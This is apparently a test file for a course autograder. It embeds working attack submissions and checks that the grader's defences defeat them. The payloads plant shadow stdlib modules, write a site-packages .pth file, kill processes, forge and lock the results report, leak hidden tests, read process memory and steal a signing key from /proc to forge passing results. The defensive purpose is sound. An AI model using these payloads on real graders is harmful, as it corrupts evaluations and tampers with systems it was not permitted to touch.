"""Nothing a submission can reach decides a score (issue 29, item 2): attacks
on what the test process imports, on the report, and from processes left
behind. Each is a submission that starts from the skeletons, so its honest
score is 0, and leaves word of what it did in a drop box; the grader runs as
the command line does, in a process of its own, where the attack needs it."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from test_grading import (  # noqa: F401 - fixtures
    AS_ROOT,
    NO_SEPARATION,
    SOLUTIONS,
    SUBMISSIONS_AS_ROOT,
    _grade_user,
    drop_box,
    make_folder,
)

from tabular_mbrl.course import report as reports
from tabular_mbrl.course.grading import grade

# Each test grades in child processes (a second or more): the full tier only.
pytestmark = pytest.mark.slow

#: Attacks that need root to work (as root they work only if the submission
#: ran as root too): run where the grader separates, or where it is not root.
separated_if_root = pytest.mark.skipif(
    AS_ROOT and NO_SEPARATION is not None,
    reason=f"as root the worker cannot run as another user: {NO_SEPARATION}",
)


def attack_folder(tmp: Path, source: str, drop: Path, *, whole: bool = False) -> Path:
    """The handout with exercise 1's skeleton replaced by the attack (and only
    exercise 1's tests, unless ``whole``); ``@DROP@`` is the drop box."""
    folder = make_folder(tmp, skeletons=True)
    if not whole:
        for path in folder.glob("*ex[0-9][0-9]_*.py"):
            if "ex01_" not in path.name:
                path.unlink()
    source = source.replace("@DROP@", str(drop)).replace("@FOLDER@", str(folder))
    (folder / "ex01_epsilon_greedy.py").write_text(source)
    return folder


def grade_command(folder: Path, *args: str) -> subprocess.CompletedProcess:
    """``tabular-mbrl grade FOLDER ARGS`` in a process of its own."""
    return subprocess.run(
        [sys.executable, "-m", "tabular_mbrl", "grade", str(folder), *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


# Shared by the attacks: the grading processes above the worker, from /proc.
FIND_THE_GRADER = '''
import os
from pathlib import Path

DROP = Path("@DROP@")


def parent_of(pid):
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


def ancestors():
    """The worker's parent (the test process), its parent (the keeper), ..."""
    pid, found = os.getpid(), []
    while pid > 1:
        pid = parent_of(pid)
        found.append(pid)
    return found


def grader_argument(option):
    """``option``'s value on the grader's command line, if any."""
    for pid in ancestors():
        argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
        if b"grade" in argv and option.encode() in argv:
            return argv[argv.index(option.encode()) + 1].decode()
    return None


def tried(action):
    try:
        action()
    except OSError as error:
        return error.strerror
    return "done"


def grading_folder():
    """The grader's own folder of this grading (the test process works in a
    folder in it), if the test process's working folder can be read."""
    try:
        return Path(os.readlink(f"/proc/{ancestors()[0]}/cwd")).parent
    except OSError:
        return None
'''

PLANT_A_SHADOW_MODULE = (
    FIND_THE_GRADER
    + '''
import glob
import sys

# A module of the standard library that the test process imports once a test
# runs (sysconfig, when a test first uses numpy.testing, or any other): this
# one makes the grading plugin forget every failure, then stands in for the
# real one. One is planted for every name the standard library has.
SHADOW = """
import gc, importlib, sys
from pathlib import Path
(Path("@DROP@") / "ran").write_text(NAME)
class Forgetful(dict):
    def __setitem__(self, key, value):
        pass
for o in gc.get_objects():
    if type(o).__name__ == "_Grading":
        o.failures = Forgetful()
here, saved = str(Path(__file__).parent), sys.path[:]
sys.path[:] = [p for p in sys.path if p not in ("", here)]
del sys.modules[NAME]
real = importlib.import_module(NAME)
sys.path[:] = saved
sys.modules[NAME] = real
globals().update(vars(real))
"""
NAMES = sorted(
    set(getattr(sys, "stdlib_module_names", ["sysconfig"]))
    - set(sys.builtin_module_names)
    - {"__future__", "this", "antigravity"}
)


def plant(folder):
    for name in NAMES:
        Path(folder, f"{name}.py").write_text(f"NAME = {name!r}\\n" + SHADOW)


def folders():
    """Where the test process may import from: the folders on its command
    line (once its copies of the tests), its working folder, the grader's."""
    found = set()
    test_process = ancestors()[0]
    for arg in Path(f"/proc/{test_process}/cmdline").read_bytes().split(b"\\0"):
        if arg.startswith(b"/") and os.path.isdir(arg):
            found.add(arg.decode())
    found.update(glob.glob("/tmp/tabular-mbrl-grade-*/*/"))
    try:
        found.add(os.readlink(f"/proc/{test_process}/cwd"))
    except OSError:
        pass
    return sorted(found)


def epsilon_greedy(q_row, epsilon, rng):
    if not (DROP / "planted").exists():
        planted = []
        for folder in folders():
            try:
                os.chmod(folder, 0o755)  # the copies are read-only: undo it
            except OSError:
                pass
            if tried(lambda: plant(folder)) == "done":
                planted.append(folder)
        (DROP / "planted").write_text(str(len(planted)))
    raise NotImplementedError("exercise 1: write epsilon_greedy")
'''
)


def test_attack_a_module_planted_where_the_test_process_imports_from(tmp_path, drop):
    """Before: the copies of the tests were the test process's ``sys.path[0]``,
    named on its command line; a ``sysconfig.py`` planted there ran when a
    test first used ``np.testing``, and made every later test pass (1 -> 80
    of 80, as any user). Now the test process runs with a safe path from a
    folder on no path, has imported what the tests use before any student
    code runs, and its copies are read-only and closed to the worker.

    Exercise 3 is solved (its tests are the first to use ``np.testing``), so
    that the honest score is 10: the tests of exercises 4 to 8 run after the
    shadow would have."""
    folder = attack_folder(tmp_path / "s", PLANT_A_SHADOW_MODULE, drop, whole=True)
    shutil.copy(SOLUTIONS / "reference" / "ex03_deterministic_model.py", folder)
    report = grade(folder, timeout=5.0)
    planted = int((drop / "planted").read_text())
    if NO_SEPARATION is None:
        assert planted == 0  # as nobody it found no folder it could write
    assert not (drop / "ran").exists()  # wherever it planted, nothing ran it
    assert report.score == 10.0, report.table()


OUTLIVE_THE_GRADER = (
    FIND_THE_GRADER
    + '''
import signal
import subprocess
import sys

# Waits for results.json, then rewrites it with full marks, for a minute.
DAEMON = """
import json, sys, time
from pathlib import Path
path = Path(sys.argv[1])
for _ in range(600):
    time.sleep(0.1)
    if path.exists() and json.loads(path.read_text())["score"] < 10:
        path.write_text(json.dumps({"score": 10.0, "tests": []}))
"""


def epsilon_greedy(q_row, epsilon, rng):
    if not (DROP / "daemon.pid").exists():
        results = grader_argument("--json")
        daemon = subprocess.Popen(
            [sys.executable, "-c", DAEMON, results], start_new_session=True
        )
        (DROP / "daemon.pid").write_text(str(daemon.pid))
        keeper = ancestors()[1]
        (DROP / "keeper").write_text(tried(lambda: os.kill(keeper, signal.SIGKILL)))
    raise NotImplementedError("exercise 1: write epsilon_greedy")
'''
)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux /proc")
def test_attack_a_daemon_that_kills_the_keeper_dies_before_the_report(tmp_path, drop):
    """Before: a daemon in a session of its own, whose keeper the submission
    killed, outlived the grader and rewrote results.json (0 -> 80 of 80, the
    printed table still 0). Now the grader is a subreaper too and kills every
    process left before it returns; as root the keeper is out of reach."""
    folder = attack_folder(tmp_path / "s", OUTLIVE_THE_GRADER, drop)
    results = tmp_path / "results.json"
    done = grade_command(folder, "--json", str(results), "--timeout", "5")
    assert done.returncode == 0, done.stderr
    daemon = int((drop / "daemon.pid").read_text())
    assert not Path(f"/proc/{daemon}").exists(), "the daemon outlived the grader"
    killed = (drop / "keeper").read_text()
    assert killed == ("done" if NO_SEPARATION else "Operation not permitted")
    assert json.loads(results.read_text())["score"] == 0.0


SITE_PACKAGES_PTH = (
    FIND_THE_GRADER
    + """
import signal
import sys

# In every later test process of a grading (nowhere else: the guard), every
# result is signed "passed".
PAYLOAD = (
    "import os, json; os.environ.get('TABULAR_MBRL_SUBMISSION') and "
    "setattr(json, 'dumps', (lambda d: lambda o, *a, **k: d(dict(o, passed=True, "
    "output='') if isinstance(o, dict) and o.get('kind') == 'result' else o, *a, "
    "**k))(json.dumps))\\n"
)


def epsilon_greedy(q_row, epsilon, rng):
    if not (DROP / "pth").exists():
        numpy = Path(os.path.realpath(sys.modules["numpy"].__file__))
        pth = numpy.parents[1] / "zz_tabular_mbrl_attack.pth"
        (DROP / "pth").write_text(str(pth))
        (DROP / "wrote").write_text(tried(lambda: pth.write_text(PAYLOAD)))
        os.kill(ancestors()[0], signal.SIGKILL)  # a new test process, please
    raise NotImplementedError("exercise 1: write epsilon_greedy")
"""
)


@separated_if_root
def test_attack_a_pth_file_planted_in_site_packages(tmp_path, drop):
    """Before: as root (or with an instructor's own venv) the submission wrote
    a ``.pth`` file into site-packages that the next test process ran, which
    signed every result "passed" (0 -> 79 of 80). Now, as root, it runs as a
    user who cannot write there (and grading refuses a Python installation
    that user could write to)."""
    folder = attack_folder(tmp_path / "s", SITE_PACKAGES_PTH, drop)
    try:
        report = grade(folder, timeout=5.0)
    finally:
        pth = Path((drop / "pth").read_text())
        planted = pth.exists()
        pth.unlink(missing_ok=True)
    assert not planted and (drop / "wrote").read_text() == "Permission denied"
    assert report.score == 0.0, report.table()


FORGE_THE_REPORT = (
    FIND_THE_GRADER
    + """
import fcntl
import json


def immutable(path):
    with open(path) as file:  # FS_IOC_SETFLAGS with FS_IMMUTABLE_FL
        fcntl.ioctl(file, 0x40086602, (0x10).to_bytes(8, "little"))


def epsilon_greedy(q_row, epsilon, rng):
    if not (DROP / "forged").exists():
        results = Path(grader_argument("--json"))
        forged = {"score": 10.0, "output": "10 / 10 points", "tests": []}
        steps = {
            "write": lambda: results.write_text(json.dumps(forged)),
            "read-only": lambda: results.chmod(0o444),
            "immutable": lambda: immutable(results),
        }
        outcome = {step: tried(action) for step, action in steps.items()}
        (DROP / "forged").write_text(json.dumps(outcome))
    raise NotImplementedError("exercise 1: write epsilon_greedy")
"""
)


@separated_if_root
def test_attack_a_report_forged_early_and_made_read_only_is_replaced(tmp_path, drop):
    """Before: full marks written to the ``--json`` path before the grader got
    there, made read-only or immutable, stayed; the grader exited 2. Now the
    report replaces whatever is there (a new file renamed over it), and as
    root the submission cannot write there, nor make a file immutable."""
    folder = attack_folder(tmp_path / "s", FORGE_THE_REPORT, drop)
    results = tmp_path / "results.json"
    done = grade_command(folder, "--json", str(results), "--timeout", "5")
    assert done.returncode == 0, done.stderr
    outcome = json.loads((drop / "forged").read_text())
    if NO_SEPARATION is None:
        assert outcome["write"] == "Permission denied"
    else:  # as the grader's own user it can write, but not make it immutable
        assert outcome == {
            "write": "done",
            "read-only": "done",
            "immutable": "Operation not permitted",
        }
    data = json.loads(results.read_text())
    assert data["score"] == 0.0 and len(data["tests"]) == 7


def test_the_report_replaces_a_read_only_file_and_a_symlink_not_its_target(
    tmp_path,
):
    result = reports.TestResult("t::a", "a", "ex01", 2.0, score=2.0)
    report = reports.GradeReport([result])
    results = tmp_path / "results.json"
    results.write_text('{"score": 80}')
    results.chmod(0o444)
    report.write_json(results)
    assert json.loads(results.read_text())["score"] == 2.0
    assert results.stat().st_mode & 0o777 == 0o644
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep me")
    results.unlink()
    results.symlink_to(target)
    report.write_json(results)
    assert not results.is_symlink() and target.read_text() == "keep me"
    assert json.loads(results.read_text())["score"] == 2.0
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "elsewhere.txt",
        "results.json",
    ]


# -- the channel carries data only (issue 29, item 3) ------------------------------
QUOTE_THE_HIDDEN_TESTS = (
    FIND_THE_GRADER
    + '''
import glob


def hidden_tests():
    """The hidden test files: on the test process's command line (once), in
    the grader's folders, or where the grader's --hidden says."""
    found = set()
    for pid in ancestors():
        for arg in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0"):
            if arg.startswith(b"/") and os.path.isdir(arg):
                found.update(glob.glob(os.path.join(arg.decode(), "test_*.py")))
    found.update(glob.glob("/tmp/tabular-mbrl-grade-*/hidden/test_*.py"))
    hidden = grader_argument("--hidden")
    if hidden:
        found.update(glob.glob(os.path.join(hidden, "test_*.py")))
    return sorted(found)


def epsilon_greedy(q_row, epsilon, rng):
    sources = []
    for path in hidden_tests():
        try:
            sources.append(Path(path).read_text())
        except OSError:
            pass
    source = " | ".join(sources).replace("\\n", " | ")
    (DROP / "read").write_text(str(len(source)))
    raise ValueError(source)
'''
)


def test_attack_an_error_message_that_quotes_the_hidden_tests(tmp_path, drop):
    """Before: the hidden tests' paths were on pytest's command line, and an
    error whose message was their source put 8 KB of hidden tests into the
    visible feedback. Now no path is on a test process's command line, the
    copies are closed to the worker, and feedback is one line of at most 500
    characters that never quotes a hidden test's source. (The instructor's
    own hidden folder, named on the grader's command line, is readable here,
    as it is in the repository: the grader warns about that, and the
    message is still not shown.)"""
    folder = attack_folder(tmp_path / "s", QUOTE_THE_HIDDEN_TESTS, drop)
    results = tmp_path / "results.json"
    hidden = Path(__file__).parent / "grading" / "hidden"
    done = grade_command(
        folder, "--hidden", str(hidden), "--json", str(results), "--timeout", "5"
    )
    assert done.returncode == 0, done.stderr
    source = (hidden / "test_ex01_epsilon_greedy.py").read_text()
    # It found the hidden test (where --hidden says) and read it whole (as the
    # grader's own user, its copies too).
    assert int((drop / "read").read_text()) >= len(source.replace("\n", " | "))
    lines = [line.strip() for line in source.splitlines() if len(line.strip()) > 20]
    tests = json.loads(results.read_text())["tests"]
    assert len(tests) == 8  # exercise 1's 7 tests and the hidden one
    for test in tests:
        assert len(test["output"]) <= 500
        assert not [line for line in lines if line in test["output"]], test["output"]
    quoted = [t for t in tests if "quoted a hidden test" in t["output"]]
    assert len(quoted) >= 5  # every test that called it
    if NO_SEPARATION is None:
        assert "can read the hidden tests" in done.stderr


READ_THE_TEST_PROCESS_MEMORY = '''
"""Attack: answer the test's np.asarray with an __array_interface__ that
points into the test process: the handle of the model the test passed is
(was) the address of that model there."""
from pathlib import Path


class Window:
    def __init__(self, address, n):
        self.__array_interface__ = {
            "data": (address, True), "shape": (n,), "typestr": "<f8", "version": 3
        }


def rollout_returns(model, state, action_sequences, *, gamma):
    (Path("@DROP@") / "address").write_text(str(model._id))
    return Window(model._id, len(action_sequences))
'''


def test_attack_an_array_interface_that_reads_the_test_process(tmp_path, drop):
    """Before: NumPy in the test process asked the handle for its
    ``__array_interface__``, the worker answered with an address (handle ids
    were addresses), and NumPy read that memory: the shape tests passed on
    whatever lay there (0 -> 3 of 10). Now a handle forwards no special
    method, and its id is random."""
    folder = make_folder(tmp_path / "s", skeletons=True)
    for path in folder.glob("*ex[0-9][0-9]_*.py"):
        if "ex06_" not in path.name:
            path.unlink()
    attack = READ_THE_TEST_PROCESS_MEMORY.replace("@DROP@", str(drop))
    (folder / "ex06_rollout_returns.py").write_text(attack)
    report = grade(folder, timeout=5.0)
    assert (drop / "address").exists()  # it ran, and returned its window
    assert report.score == 0.0, report.table()


# -- the library cannot be imported by the submission (issue 29, item 5) ------------
FIND_THE_LIBRARY = '''
"""Attack: hand in the library's own solution, reached past the import
finder that refuses it: remove the finder, or load the package under another
name from where the worker script lives, or from any folder on sys.path."""
import importlib.util
import sys
from pathlib import Path


def library():
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_NoLibrary"]
    try:
        import tabular_mbrl

        return tabular_mbrl
    except ImportError:
        pass
    script = Path(sys.argv[0]).resolve()
    for folder in [script.parents[1], *(Path(p, "tabular_mbrl") for p in sys.path)]:
        init = folder / "__init__.py"
        if folder.name == "tabular_mbrl" and init.is_file():
            spec = importlib.util.spec_from_file_location(
                "not_the_library", init, submodule_search_locations=[str(folder)]
            )
            module = importlib.util.module_from_spec(spec)
            sys.modules["not_the_library"] = module
            spec.loader.exec_module(module)
            return module
    raise ImportError("the library is nowhere on this worker's path")
'''

DELEGATE_EX06 = (
    FIND_THE_LIBRARY
    + """

def rollout_returns(model, state, action_sequences, *, gamma):
    return library().rollout_returns(model, state, action_sequences, gamma=gamma)
"""
)

DELEGATE_EX08 = (
    FIND_THE_LIBRARY
    + """

def value_iteration(next_states, probs, rewards, terminated, gamma, tol=1e-10):
    from gridworlds import TabularModel

    model = TabularModel(next_states, probs, rewards, terminated)
    return library().value_iteration(model, gamma=gamma, tol=tol)
"""
)


def test_attack_reaching_the_library_past_the_import_finder(tmp_path):
    """Before: removing the finder from ``sys.meta_path``, or loading the
    package under another name from beside the worker script, handed in the
    library's solutions (10 of 10 on ex06 and ex08). Now the worker runs a
    copy of its script from a folder of its own, with the standard library,
    NumPy and gridworlds on its path and no folder that holds the library."""
    folder = make_folder(tmp_path / "s", skeletons=True)
    for path in folder.glob("*ex[0-9][0-9]_*.py"):
        if not path.name.startswith(("ex06_", "ex08_", "test_ex06_", "test_ex08_")):
            path.unlink()
    (folder / "ex06_rollout_returns.py").write_text(DELEGATE_EX06)
    (folder / "ex08_value_iteration.py").write_text(DELEGATE_EX08)
    report = grade(folder, timeout=5.0)
    assert report.score == 0.0 and report.max_score == 20.0, report.table()
    outputs = {t.output.partition(" (")[0] for t in report.tests}
    assert outputs == {"ImportError: the library is nowhere on this worker's path"}, (
        outputs
    )


READ_THE_KEY = (
    FIND_THE_GRADER
    + """
import hashlib
import hmac
import json
import signal


def epsilon_greedy(q_row, epsilon, rng):
    if not (DROP / "key").exists():
        test_process, keeper = ancestors()[:2]
        try:
            environ = Path(f"/proc/{test_process}/environ").read_bytes()
            found = [v for v in environ.split(b"\\0") if b"_GRADE_KEY=" in v]
            key = found[0].partition(b"=")[2] if found else None
        except OSError as error:
            key, found = None, error.strerror
        (DROP / "key").write_text(
            "found" if key else f"no key ({found or 'not in the environment'})"
        )
        argv = Path(f"/proc/{test_process}/cmdline").read_bytes().split(b"\\0")
        log = None
        if b"--grade-log" in argv:
            log = Path(argv[argv.index(b"--grade-log") + 1].decode())
        elif grading_folder():
            log = max(grading_folder().glob("log*.jsonl"), default=None)
        if key and log:
            os.kill(keeper, signal.SIGSTOP)
            lines = log.read_text().splitlines()
            records = [json.loads(line.rpartition(" ")[0]) for line in lines]
            with log.open("a") as out:
                for record in records:
                    if record["kind"] == "test":
                        forged = json.dumps({"kind": "result", "passed": True,
                                             "nodeid": record["nodeid"],
                                             "output": "", "seq": len(lines)})
                        signed = hmac.new(key, forged.encode(), hashlib.sha256)
                        out.write(f"{forged} {signed.hexdigest()}\\n")
                        lines.append(forged)
            os.kill(test_process, signal.SIGKILL)
            os.kill(keeper, signal.SIGCONT)
    raise NotImplementedError("exercise 1: write epsilon_greedy")
"""
)


def test_attack_reading_the_log_key_from_the_test_processs_environment(tmp_path, drop):
    """Before: as root, the key survived in ``/proc/<test process>/environ``
    (``os.environ.pop`` does not change it); the submission stopped the
    keeper, signed "passed" for every test and killed the test process (0 ->
    80 of 80). Now the key comes through a pipe and is in no environment;
    as root the submission runs as a user who cannot read that file, as a
    process of the grader's user cannot (the test process is non-dumpable)."""
    folder = attack_folder(tmp_path / "s", READ_THE_KEY, drop)
    report = grade(folder, timeout=5.0)
    found = (drop / "key").read_text()
    if SUBMISSIONS_AS_ROOT:  # it reads the file, but the key is not there
        assert found == "no key (not in the environment)"
    else:  # as another user, or as the grader's (the process is non-dumpable)
        assert found == "no key (Permission denied)"
    assert report.score == 0.0, report.table()
